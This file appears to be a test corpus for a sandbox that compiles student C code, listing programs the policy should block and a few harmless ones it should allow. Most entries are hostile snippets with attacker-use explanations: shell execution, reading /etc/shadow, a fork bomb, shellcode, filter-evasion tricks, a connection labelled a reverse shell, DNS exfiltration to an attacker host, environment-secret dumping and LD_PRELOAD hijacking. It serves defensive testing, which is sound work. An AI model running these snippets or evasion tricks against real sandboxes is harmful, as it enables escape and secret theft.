@@ -0,0 +1,759 @@
+/**
+ * C Security Attack Vectors
+ *
+ * A C program can reach the kernel with nothing but a function name:
+ * a prototype written by hand is as good as a header, so the policy
+ * matches the functions - system, exec, fork, fopen, socket, getenv -
+ * rather than the #include lines. The preprocessor can then rebuild a
+ * refused name out of harmless pieces, or make gcc quote a file back in
+ * an error, so the corpus carries those tricks too.
+ *
+ * Each test includes:
+ * - name: Test identifier
+ * - code: The malicious code attempt
+ * - expectBlocked: Whether this should be blocked (true) or allowed (false)
+ * - category: Attack category for grouping
+ * - explanation: Human-readable description of how hackers use this attack
+ */
+
+export const cTests = [
+  // ════════════════════════════════════════════════════════════════
+  // COMMAND / PROCESS EXECUTION
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: system shell command',
+    code: `#include <stdio.h>
+#include <stdlib.h>
+
+int main(void) {
+    system("id; cat /etc/passwd");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Shell Command Execution
+
+      How hackers use this:
+      system() hands a string to /bin/sh. Whatever shell command
+      it names runs with the service's permissions.
+
+      Real-world impact:
+      - Reverse shells and lateral movement
+      - Reading secrets such as SSH keys and tokens
+      - Installing miners or backdoors on the host
+    `,
+  },
+  {
+    name: 'C: popen reads command output',
+    code: `#include <stdio.h>
+
+int main(void) {
+    char line[256];
+    FILE *p = popen("ls -la /", "r");
+    while (fgets(line, sizeof line, p)) fputs(line, stdout);
+    pclose(p);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Command Output Capture
+
+      How hackers use this:
+      popen() starts a shell command and returns its output as a
+      FILE, so the attacker can read the result line by line and
+      print it back through the program's own output.
+    `,
+  },
+  {
+    name: 'C: execve replaces the program',
+    code: `#include <unistd.h>
+
+int main(void) {
+    char *argv[] = { "/bin/sh", "-c", "whoami", NULL };
+    execve("/bin/sh", argv, NULL);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Process Replacement
+
+      How hackers use this:
+      The exec family swaps the running program for another one -
+      here a shell. Nothing of the student's program is left, and
+      the shell inherits its sandbox slot.
+    `,
+  },
+  {
+    name: 'C: fork bomb',
+    code: `#include <unistd.h>
+
+int main(void) {
+    while (1) fork();
+}`,
+    expectBlocked: true,
+    category: 'resource_exhaustion',
+    explanation: `
+      🎯 ATTACK: Fork Bomb
+
+      How hackers use this:
+      Every process copies itself, and every copy copies itself
+      again. The process table fills in seconds and the machine
+      stops answering anyone.
+    `,
+  },
+  {
+    name: 'C: posix_spawn',
+    code: `#include <spawn.h>
+#include <stdio.h>
+
+extern char **environ;
+
+int main(void) {
+    pid_t pid;
+    char *argv[] = { "sh", "-c", "id", NULL };
+    posix_spawn(&pid, "/bin/sh", NULL, NULL, argv, environ);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Spawning Without fork
+
+      How hackers use this:
+      posix_spawn starts a new program in one call, without the
+      fork/exec pair a filter is likely to look for.
+    `,
+  },
+  {
+    name: 'C: system declared by hand',
+    code: `int system(const char *command);
+int puts(const char *s);
+
+int main(void) {
+    puts("starting");
+    return system("id");
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Calling Without the Header
+
+      How hackers use this:
+      C does not need a header to call a function - a prototype
+      written by hand is enough, and the linker finds the real
+      system() in libc. A policy that only blocks #include lines
+      misses this entirely, which is why functions are matched by
+      name.
+    `,
+  },
+  {
+    name: 'C: system through a function pointer',
+    code: `#include <stdlib.h>
+
+int main(void) {
+    int (*run)(const char *) = system;
+    run("cat /etc/shadow");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Function Pointer Indirection
+
+      How hackers use this:
+      The dangerous function is named once, as a value, and then
+      called through a pointer under an innocent name. A filter
+      that looks for "system(" sees no call at all.
+    `,
+  },
+  {
+    name: 'C: system hidden behind a macro',
+    code: `#include <stdlib.h>
+
+#define RUN system
+
+int main(void) {
+    RUN ("id");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Macro Renaming
+
+      How hackers use this:
+      The preprocessor replaces RUN with system before the
+      compiler sees the code. The call in the program never
+      spells the name next to its parenthesis.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // RAW SYSTEM CALLS AND NATIVE CODE
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: raw syscall',
+    code: `#include <unistd.h>
+#include <sys/syscall.h>
+
+int main(void) {
+    char *argv[] = { "/bin/sh", NULL };
+    syscall(SYS_execve, "/bin/sh", argv, NULL);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Direct System Call
+
+      How hackers use this:
+      syscall() asks the kernel for anything by number, skipping
+      every libc function a policy could recognise by name.
+    `,
+  },
+  {
+    name: 'C: inline assembly',
+    code: `int main(void) {
+    long ret;
+    __asm__ volatile ("mov $39, %%rax\\n\\tsyscall" : "=a"(ret));
+    return (int)ret;
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Inline Assembly
+
+      How hackers use this:
+      asm puts machine instructions straight into the program.
+      A syscall instruction written this way talks to the kernel
+      with no function call anywhere in the source.
+    `,
+  },
+  {
+    name: 'C: dlsym looks up system at run time',
+    code: `#include <dlfcn.h>
+
+int main(void) {
+    void *libc = dlopen("libc.so.6", RTLD_NOW);
+    int (*run)(const char *) = dlsym(libc, "sys" "tem");
+    run("id");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Dynamic Symbol Lookup
+
+      How hackers use this:
+      dlsym finds any function in any loaded library by a string,
+      and the string can be assembled from pieces. The name of
+      the function never appears in the code.
+    `,
+  },
+  {
+    name: 'C: executable memory for shellcode',
+    code: `#include <string.h>
+#include <sys/mman.h>
+
+unsigned char code[] = { 0x48, 0x31, 0xc0, 0xc3 };
+
+int main(void) {
+    void *page = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    memcpy(page, code, sizeof code);
+    return ((int (*)(void))page)();
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Shellcode in Executable Memory
+
+      How hackers use this:
+      mmap with PROT_EXEC (or mprotect on existing memory) makes
+      bytes runnable. The attacker copies machine code in as data
+      and jumps to it - code no scanner of the source can read.
+    `,
+  },
+  {
+    name: 'C: ptrace another process',
+    code: `#include <sys/ptrace.h>
+
+int main(void) {
+    ptrace(PTRACE_ATTACH, 1, 0, 0);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Process Tracing
+
+      How hackers use this:
+      ptrace lets one process read and rewrite another's memory.
+      Attached to a neighbour, it can steal secrets or inject
+      code into a program that was trusted.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // PREPROCESSOR TRICKS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: token pasting builds the name',
+    code: `#include <stdlib.h>
+
+#define JOIN(a, b) a ## b
+
+int main(void) {
+    JOIN(sys, tem)("id");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'obfuscation',
+    explanation: `
+      🎯 ATTACK: Token Pasting
+
+      How hackers use this:
+      The ## operator glues two tokens into one during
+      preprocessing. "sys" and "tem" are harmless on their own;
+      the compiler only ever sees system.
+    `,
+  },
+  {
+    name: 'C: backslash-newline inside a name',
+    code: `#include <stdlib.h>
+
+int main(void) {
+    sys\\
+tem("id");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'obfuscation',
+    explanation: `
+      🎯 ATTACK: Line Splicing
+
+      How hackers use this:
+      A backslash at the end of a line joins it to the next one
+      before anything else happens - even in the middle of a
+      word. The source shows two fragments; the compiler reads
+      one name.
+    `,
+  },
+  {
+    name: 'C: digraph spelling of #include',
+    code: `%:include <stdio.h>
+
+int main(void) {
+    puts("hi");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'obfuscation',
+    explanation: `
+      🎯 ATTACK: Digraphs
+
+      How hackers use this:
+      C accepts %: as another spelling of #. Any rule written
+      against "#include" or "##" is blind to %:include and %:%:.
+    `,
+  },
+  {
+    name: 'C: #include of a system file',
+    code: `#include "/etc/passwd"
+
+int main(void) {
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 ATTACK: Reading a File Through the Compiler
+
+      How hackers use this:
+      The program never runs. gcc tries to compile /etc/passwd as
+      C, fails, and quotes the offending lines in its error
+      message - which is returned to the attacker as a compile
+      error.
+    `,
+  },
+  {
+    name: 'C: #include that climbs out of the project',
+    code: `#include "../../app/server/config.mjs"
+
+int main(void) {
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 ATTACK: Path Traversal in #include
+
+      How hackers use this:
+      ".." walks out of the job directory into the service's own
+      files. Their contents come back quoted in gcc's errors.
+    `,
+  },
+  {
+    name: 'C: #include of a macro',
+    code: `#define TARGET "/etc/shadow"
+#include TARGET
+
+int main(void) {
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 ATTACK: Computed #include
+
+      How hackers use this:
+      #include can name a macro, and the macro names the file.
+      The path is nowhere on the #include line itself.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // NETWORK ACCESS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: reverse shell over a socket',
+    code: `#include <arpa/inet.h>
+#include <sys/socket.h>
+
+int main(void) {
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4444) };
+    inet_pton(AF_INET, "203.0.113.7", &a.sin_addr);
+    connect(s, (struct sockaddr *)&a, sizeof a);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'network_access',
+    explanation: `
+      🎯 ATTACK: Reverse Shell
+
+      How hackers use this:
+      The program connects out to the attacker's machine and
+      wires the connection to a shell, giving an interactive
+      session from inside the service.
+    `,
+  },
+  {
+    name: 'C: DNS lookup',
+    code: `#include <netdb.h>
+#include <stdio.h>
+
+int main(void) {
+    struct addrinfo *info;
+    getaddrinfo("secrets.attacker.example", "80", NULL, &info);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'network_access',
+    explanation: `
+      🎯 ATTACK: DNS Exfiltration
+
+      How hackers use this:
+      A name lookup carries data out in the name itself
+      (secret-value.attacker.example), even where ordinary
+      connections are blocked.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // FILE SYSTEM ACCESS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: fopen a system file',
+    code: `#include <stdio.h>
+
+int main(void) {
+    char line[256];
+    FILE *f = fopen("/etc/passwd", "r");
+    while (fgets(line, sizeof line, f)) fputs(line, stdout);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 ATTACK: Reading Host Files
+
+      How hackers use this:
+      fopen reads any file the process can see: account lists,
+      configuration, keys, the service's own source.
+    `,
+  },
+  {
+    name: 'C: freopen swaps stdin for a file',
+    code: `#include <stdio.h>
+
+int main(void) {
+    char line[256];
+    freopen("/proc/self/environ", "r", stdin);
+    while (fgets(line, sizeof line, stdin)) fputs(line, stdout);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 ATTACK: Redirected Standard Input
+
+      How hackers use this:
+      freopen points stdin at a file, so ordinary input-reading
+      code prints the file. /proc/self/environ holds the
+      process's environment.
+    `,
+  },
+  {
+    name: 'C: open and read with file descriptors',
+    code: `#include <fcntl.h>
+#include <unistd.h>
+
+int main(void) {
+    char buffer[4096];
+    int fd = open("/etc/hostname", O_RDONLY);
+    ssize_t n = read(fd, buffer, sizeof buffer);
+    write(1, buffer, n);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 ATTACK: POSIX File I/O
+
+      How hackers use this:
+      open/read/write are the layer under fopen. A policy that
+      only knows the stdio names misses them.
+    `,
+  },
+  {
+    name: 'C: listing directories',
+    code: `#include <dirent.h>
+#include <stdio.h>
+
+int main(void) {
+    DIR *d = opendir("/");
+    struct dirent *e;
+    while ((e = readdir(d))) puts(e->d_name);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 ATTACK: Directory Enumeration
+
+      How hackers use this:
+      Listing directories maps the server: where the service
+      lives, what else is installed, where secrets might be.
+    `,
+  },
+  {
+    name: 'C: deleting files',
+    code: `#include <stdio.h>
+#include <unistd.h>
+
+int main(void) {
+    unlink("main.c");
+    remove("/tmp/other-job/main.c");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 ATTACK: File Deletion
+
+      How hackers use this:
+      unlink and remove delete files - evidence, other users'
+      work, or files the service needs to keep running.
+    `,
+  },
+  {
+    name: 'C: symlink to a secret',
+    code: `#include <unistd.h>
+
+int main(void) {
+    symlink("/etc/shadow", "notes.txt");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 ATTACK: Symbolic Link Planting
+
+      How hackers use this:
+      A link named like an ordinary file points at a sensitive
+      one. Anything that later reads "notes.txt" - the service
+      included - reads the secret instead.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // ENVIRONMENT ACCESS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: getenv reads secrets',
+    code: `#include <stdio.h>
+#include <stdlib.h>
+
+int main(void) {
+    printf("%s\\n", getenv("DATABASE_URL"));
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'environment_access',
+    explanation: `
+      🎯 ATTACK: Environment Secrets
+
+      How hackers use this:
+      Services keep credentials in environment variables. getenv
+      reads them by name.
+    `,
+  },
+  {
+    name: 'C: environ lists every variable',
+    code: `#include <stdio.h>
+
+extern char **environ;
+
+int main(void) {
+    for (char **e = environ; *e; e++) puts(*e);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'environment_access',
+    explanation: `
+      🎯 ATTACK: Dumping the Environment
+
+      How hackers use this:
+      environ is the whole environment as an array - no names
+      needed, every secret printed at once.
+    `,
+  },
+  {
+    name: "C: main's third parameter",
+    code: `#include <stdio.h>
+
+int main(int argc, char **argv, char **envp) {
+    while (*envp) puts(*envp++);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'environment_access',
+    explanation: `
+      🎯 ATTACK: The envp Parameter
+
+      How hackers use this:
+      On Unix, main can take a third parameter: the environment.
+      It reaches the same secrets as environ without naming any
+      library symbol.
+    `,
+  },
+  {
+    name: 'C: setenv LD_PRELOAD',
+    code: `#include <stdlib.h>
+
+int main(void) {
+    setenv("LD_PRELOAD", "./evil.so", 1);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'environment_access',
+    explanation: `
+      🎯 ATTACK: Loader Hijacking
+
+      How hackers use this:
+      LD_PRELOAD makes every program started afterwards load the
+      attacker's library first. Combined with any way to start a
+      process, it runs arbitrary native code.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // SAFE CODE (Should NOT be blocked)
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: Safe print',
+    code: `#include <stdio.h>
+
+int main(void) {
+    printf("Hello, World!\\n");
+    return 0;
+}`,
+    expectBlocked: false,
+    expectedOutput: 'Hello, World!',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE CODE: Should be allowed
+
+      This is ordinary teaching code, and must run.
+    `,
+  },
+  {
+    name: 'C: Safe arrays, structs and pointers',
+    code: `#include <stdio.h>
+#include <string.h>
+
+struct door { int open; char label[16]; };
+
+int main(void) {
+    struct door d = { .open = 1 };
+    struct door *p = &d;
+    strcpy(p->label, "front");
+    int open = p->open;
+    printf("%s %s\\n", d.label, open ? "open" : "closed");
+    return 0;
+}`,
+    expectBlocked: false,
+    expectedOutput: 'front open',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE CODE: Should be allowed
+
+      A struct field and a local variable called open are not the
+      open() system call. Member access and plain variables stay
+      legal.
+    `,
+  },
+  {
+    name: 'C: Safe math and memory',
+    code: `#include <math.h>
+#include <stdio.h>
+#include <stdlib.h>
+
+int main(void) {
+    int n = 5;
+    double *roots = malloc(n * sizeof *roots);
+    for (int i = 0; i < n; i++) roots[i] = sqrt(i);
+    printf("%.3f\\n", roots[4] + roots[1]);
+    free(roots);
+    return 0;
+}`,
+    expectBlocked: false,
+    expectedOutput: '3.000',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE CODE: Should be allowed
+
+      malloc, free and <math.h> are the core of a C course.
+    `,
+  },
+  {
+    name: 'C: Safe multi-line macro',
+    code: `#include <stdio.h>
+
+#define SQUARE(x) ((x) * (x))
+#define SHOW(label, value) \\
+    printf("%s = %d\\n", label, value)
+
+int main(void) {
+    SHOW("nine", SQUARE(3));
+    return 0;
+}`,
+    expectBlocked: false,
+    expectedOutput: 'nine = 9',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE CODE: Should be allowed
+
+      A macro continued with a backslash after a space is the
+      ordinary way to write a long macro; only a backslash inside
+      a word is refused.
+    `,
+  },
+];